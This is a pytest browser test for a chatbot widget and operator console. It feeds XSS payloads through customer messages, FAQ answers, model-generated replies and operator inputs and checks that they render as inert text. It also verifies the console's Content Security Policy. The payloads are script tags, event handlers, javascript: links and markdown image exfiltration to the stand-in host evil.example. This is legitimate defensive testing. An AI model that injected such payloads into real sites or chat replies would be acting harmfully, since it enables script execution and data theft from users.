"""Markup and markdown where customers, the FAQ, the model and operators write render as inert
text, in the widget and in the operator console, in Debian's headless Chromium.

A server of its own (`make run`'s setup, SQLite) generates replies through an OpenAI-compatible
backend scripted in this module, so a reply can be the model's own text: the markup passes the
grounding guard because the cited FAQ answer holds the same markup. Every payload sets a window
flag if any of it runs, and points at evil.example: requests to it are recorded and aborted."""

from __future__ import annotations

import http.server
import json
import re
import socketserver
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from tests.conftest import MODEL_LOADED
from tests.processes import Process, asgi_server, base_env, free_port, manage
from tests.support.browser import chromium

pytestmark = [pytest.mark.browser, pytest.mark.integration, pytest.mark.slow]

PASSWORD = "xss-operator-password-1"
FAQ_QUESTION = "What is the secret markup test?"
FALLBACK_MARKER = "That costs 999 euros."  # an invented price: the guard sends the FAQ answer instead
GENERATED_PREFIX = "Here it is: "


def payload(where: str) -> str:
    """Script tags, event handlers, a javascript: link and markdown exfiltration, all marked `where`."""
    return (
        f'<script>window.__pwned="{where}-script"</script>'
        f"<img src=x onerror=\"window.__pwned='{where}-img'\">"
        f"<svg onload=\"window.__pwned='{where}-svg'\"></svg>"
        f"<a href=\"javascript:window.__pwned='{where}-link'\">click me</a> "
        f"![x](https://evil.example/{where}.png?q=secret) "
        "[click](javascript:alert(1)) "
        f'<iframe src="https://evil.example/{where}-frame"></iframe>'
        f'<img src="https://evil.example/{where}-leak?q=secret">'
    )


FAQ_ANSWER = payload("faq")
GENERATED = GENERATED_PREFIX + FAQ_ANSWER
CUSTOMER = payload("customer")
OPERATOR_REPLY = payload("reply")
OPERATOR_NOTE = payload("note")
OPERATOR_NAME = "Op <img src=x onerror=\"window.__pwned='name'\">"
SITE_NAME = "Shop <img src=x onerror=\"window.__pwned='site'\">"
GREETING = payload("greeting")

# Walks the document and every open shadow root: what would make the markup live.
FIND_LIVE_MARKUP = """() => {
  const URL_ATTRIBUTES = ['src', 'href', 'srcset', 'action', 'formaction', 'data', 'poster', 'xlink:href'];
  const found = [];
  const visit = (root) => {
    for (const node of root.querySelectorAll('*')) {
      for (const attr of node.attributes) {
        if (/^on/i.test(attr.name)) found.push(node.tagName + ' ' + attr.name);
        if (!URL_ATTRIBUTES.includes(attr.name.toLowerCase())) continue;
        if (/^\\s*javascript:/i.test(attr.value)) found.push(node.tagName + ' ' + attr.name + '=javascript:');
        if (/evil\\.example/.test(attr.value)) found.push(node.tagName + ' ' + attr.name + ' evil.example');
      }
      if (['IFRAME', 'OBJECT', 'EMBED'].includes(node.tagName)) found.push(node.tagName);
      if (node.tagName === 'SCRIPT' && /__pwned/.test(node.textContent)) found.push('inline SCRIPT');
      if (node.shadowRoot) visit(node.shadowRoot);
    }
  };
  visit(document);
  return found;
}"""


class ScriptedModel(http.server.BaseHTTPRequestHandler):
    """An OpenAI-compatible chat endpoint: the markup when the customer asks for a generated
    reply, else a reply with an invented price (which the guard replaces with the FAQ answer)."""

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", "0"))))
        last = next((m["content"] for m in reversed(body["messages"]) if m["role"] == "user"), "")
        reply = GENERATED if "generated" in last else FALLBACK_MARKER
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        for piece in re.findall(r"\s*\S+", reply):
            chunk = {"choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]}
            self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
        done = {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}
        self.wfile.write(f"data: {json.dumps(done)}\n\ndata: [DONE]\n\n".encode())

    def log_message(self, *args: Any) -> None:
        pass


@dataclass
class XssServer:
    http: str
    process: Process


@pytest.fixture(scope="module")
def scripted_model() -> Iterator[str]:
    socketserver.TCPServer.allow_reuse_address = True
    server = socketserver.ThreadingTCPServer(("127.0.0.1", free_port()), ScriptedModel)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/v1"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def xss_server(tmp_path_factory: pytest.TempPathFactory, scripted_model: str) -> Iterator[XssServer]:
    port = free_port()
    folder = tmp_path_factory.mktemp("xss")
    env = base_env(
        DATABASE_URL=f"sqlite:///{folder / 'db.sqlite3'}",
        DJANGO_STATIC_ROOT=str(folder / "static"),
        CHATBOT_GENERATOR="openai",
        CHATBOT_GENERATOR_URL=scripted_model,
        CHATBOT_GENERATOR_MODEL="scripted-xss",
        CHATBOT_HANDOFF_TIMEOUT_S="600",
    )
    manage("migrate", "--no-input", "-v0", env=env)
    manage("collectstatic", "--no-input", "-v0", env=env)
    setup = (
        "from django.core.management import call_command\n"
        "from chatbot.replies.faq_index import faq_embed_stale\n"
        "from chatbot.knowledge.models import FaqEntry\n"
        "from chatbot.sites.models import Site\n"
        f"site = Site.objects.create(key='xss', name={SITE_NAME!r}, greeting={GREETING!r},\n"
        f"    allowed_origins=['http://localhost:{port}'], answer_threshold=0.3)\n"
        f"FaqEntry.objects.create(site=site, question={FAQ_QUESTION + ' <b onmouseover=x>?</b>'!r},\n"
        f"    alternatives=[{FAQ_QUESTION!r}], answer={FAQ_ANSWER!r})\n"
        "faq_embed_stale(site=site)\n"
        f"call_command('console_user', 'xss-op', '--site', 'xss', '--name', {OPERATOR_NAME!r}, '--password', "
        f"{PASSWORD!r})\n"
    )
    manage("shell", "-c", setup, env=env)
    process = asgi_server(env, port)
    try:
        process.wait_for(MODEL_LOADED, timeout=180)
        yield XssServer(f"http://localhost:{port}", process)
    finally:
        process.stop()


# Module scope: while Playwright's sync API runs, the main thread has an event loop, which the
# asyncio tests of other modules cannot share.
@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as launched:
        yield launched


@dataclass
class Watched:
    page: Any
    requests: list[str]
    dialogs: list[str]


def watched(browser: Any) -> Watched:
    """A tab whose requests to other hosts are recorded and aborted, and whose dialogs are recorded."""
    context = browser.new_context()
    requests: list[str] = []
    dialogs: list[str] = []

    def route(route: Any) -> None:
        url = route.request.url
        requests.append(url)
        if re.match(r"^(https?|wss?)://(localhost|127\.0\.0\.1)[:/]", url) or url.startswith(("data:", "blob:")):
            route.continue_()
        else:
            route.abort()

    context.route("**/*", route)
    page = context.new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    return Watched(page, requests, dialogs)


def assert_inert(tab: Watched) -> None:
    assert tab.page.evaluate("window.__pwned") is None
    assert tab.dialogs == []
    assert [url for url in tab.requests if "evil.example" in url] == []
    assert tab.page.evaluate(FIND_LIVE_MARKUP) == []


def bot_texts(page: Any) -> list[str]:
    return list(page.evaluate("window.ChatbotWidget.state().messages.filter(m => m.sender === 'bot').map(m => m.text)"))


def wait_for_bot_reply(page: Any, count: int) -> None:
    page.wait_for_function(
        "n => window.ChatbotWidget.state().messages.filter(m => m.sender === 'bot' && m.seq).length >= n",
        arg=count,
        timeout=90_000,
    )


def send(page: Any, text: str) -> None:
    page.evaluate("text => window.ChatbotWidget.send(text)", text)


def console_login(browser: Any, server: XssServer) -> Watched:
    tab = watched(browser)
    tab.page.goto(f"{server.http}/console/")
    tab.page.fill('input[name="username"]', "xss-op")
    tab.page.fill('input[name="password"]', PASSWORD)
    tab.page.click('button[type="submit"]')
    tab.page.locator("#connection", has_text="Live").wait_for(timeout=30_000)
    return tab


def test_markup_from_customers_the_faq_the_model_and_operators_stays_text_in_the_widget_and_the_console(
    browser: Any, xss_server: XssServer
) -> None:
    customer = watched(browser)
    customer.page.goto(f"{xss_server.http}/?site=xss")
    customer.page.locator('[data-testid="launcher"]').click()
    customer.page.locator('[data-testid="greeting"]', has_text="onerror").wait_for(timeout=30_000)

    # (a) a customer message, (b) an FAQ answer (the model invents a price, the guard sends the
    # FAQ answer), (c) a reply the model generated.
    send(customer.page, CUSTOMER)
    wait_for_bot_reply(customer.page, 1)
    send(customer.page, FAQ_QUESTION)
    wait_for_bot_reply(customer.page, 2)
    send(customer.page, f"{FAQ_QUESTION} A generated answer please.")
    wait_for_bot_reply(customer.page, 3)
    customer.page.wait_for_timeout(500)  # what would load or run, has
    assert_inert(customer)
    state = customer.page.evaluate("window.ChatbotWidget.state()")
    assert CUSTOMER in [m["text"] for m in state["messages"] if m["sender"] == "customer"]
    texts = bot_texts(customer.page)
    assert texts[1] == FAQ_ANSWER, texts  # shown exactly as written: as text
    assert texts[2] == GENERATED, texts
    sources = customer.page.locator('[data-testid="sources"]').last
    assert "onmouseover" in sources.inner_text()  # the FAQ question, as text

    customer.page.locator('[data-testid="human"]').click()
    customer.page.wait_for_function("() => window.ChatbotWidget.state().status === 'waiting_human'", timeout=30_000)
    conversation = int(customer.page.evaluate("window.ChatbotWidget.state().conversation"))

    # (d) an operator's reply and internal note, and their name.
    console = console_login(browser, xss_server)
    item = console.page.locator(f'[data-conversation="{conversation}"]')
    item.wait_for(timeout=30_000)
    item.click()
    console.page.locator('[data-action="claim"]').click()
    customer.page.wait_for_function("() => window.ChatbotWidget.state().status === 'human'", timeout=30_000)
    console.page.fill(".composer textarea", OPERATOR_REPLY)
    console.page.press(".composer textarea", "Enter")
    console.page.check('input[name="mode"][value="note"]')
    console.page.fill(".composer textarea", OPERATOR_NOTE)
    console.page.press(".composer textarea", "Enter")
    console.page.locator(".transcript .msg.note", has_text="note.png").wait_for(timeout=30_000)
    customer.page.wait_for_function(
        "text => window.ChatbotWidget.state().messages.some(m => m.sender === 'operator' && m.text === text)",
        arg=OPERATOR_REPLY,
        timeout=30_000,
    )
    assert "onerror" in customer.page.locator('[data-sender="operator"]').last.inner_text()  # the name, as text
    customer.page.wait_for_timeout(500)
    assert_inert(customer)

    transcript = console.page.locator(".transcript")
    for marker in ("customer.png", "faq.png", "reply.png", "note.png", "javascript:alert(1)"):
        transcript.locator(".msg", has_text=marker).first.wait_for(timeout=30_000)
    assert_inert(console)

    # The same conversation drawn from history after a reload, and the FAQ list in the console.
    console.page.reload()
    console.page.locator("#connection", has_text="Live").wait_for(timeout=30_000)
    console.page.locator('[data-tab="mine"]').click()
    console.page.locator(f'[data-conversation="{conversation}"]').click()
    console.page.locator(".transcript .msg.note", has_text="note.png").wait_for(timeout=30_000)
    console.page.locator(".transcript .msg", has_text="reply.png").first.wait_for(timeout=30_000)
    assert_inert(console)
    console.page.goto(f"{xss_server.http}/console/knowledge/")
    console.page.locator("main", has_text="faq-script").wait_for(timeout=30_000)  # answers are cut at 160
    assert_inert(console)
    customer.page.context.close()
    console.page.context.close()


def test_the_console_s_content_security_policy_refuses_inline_script(browser: Any, xss_server: XssServer) -> None:
    """The second line of defence: were the console ever to parse markup, nothing inline would run."""
    console = console_login(browser, xss_server)
    response = console.page.goto(f"{xss_server.http}/console/")
    policy = response.headers["content-security-policy"]
    assert "script-src 'self'" in policy and "unsafe-inline" not in policy and "unsafe-eval" not in policy
    console.page.locator("#connection", has_text="Live").wait_for(timeout=30_000)
    ran = console.page.evaluate(
        """() => new Promise((resolve) => {
            const script = document.createElement('script');
            script.textContent = 'window.__pwned = "inline script"';
            document.body.appendChild(script);
            const img = document.createElement('img');
            img.setAttribute('onerror', 'window.__pwned = "inline handler"');
            img.src = 'data:,not-an-image';
            document.body.appendChild(img);
            const link = document.createElement('a');
            link.href = 'javascript:void(window.__pwned = "javascript link")';
            document.body.appendChild(link);
            link.click();
            setTimeout(() => resolve(window.__pwned || null), 500);
        })"""
    )
    assert ran is None
    console.page.context.close()
